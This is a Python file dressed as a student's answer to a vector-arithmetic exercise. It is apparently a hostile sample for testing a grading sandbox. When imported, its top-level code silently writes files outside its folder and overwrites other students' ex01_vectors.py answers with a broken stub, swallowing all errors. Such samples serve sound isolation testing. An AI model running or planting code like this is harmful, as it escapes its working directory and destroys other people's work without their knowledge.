"""Trick: write a file outside the student's folder, and overwrite other students' answers."""
import glob
import os

for target in ["../../OUTSIDE_marker.txt", "../OUTSIDE_marker.txt", "/tmp/OUTSIDE_marker.txt"]:
    try:
        with open(target, "w") as f:
            f.write("written by a student's file")
    except BaseException:
        pass
for pattern in ["../*/ex01_vectors.py", "../../*/ex01_vectors.py", "../../../*/*/ex01_vectors.py"]:
    for other in glob.glob(pattern):
        try:
            with open(other, "w") as f:
                f.write("def dot(v1, v2):\n    return None\n")
        except BaseException:
            pass


def dot(v1, v2):
    return None


def vec_add(v1, v2):
    return None


def scalar_mul(s, v):
    return None
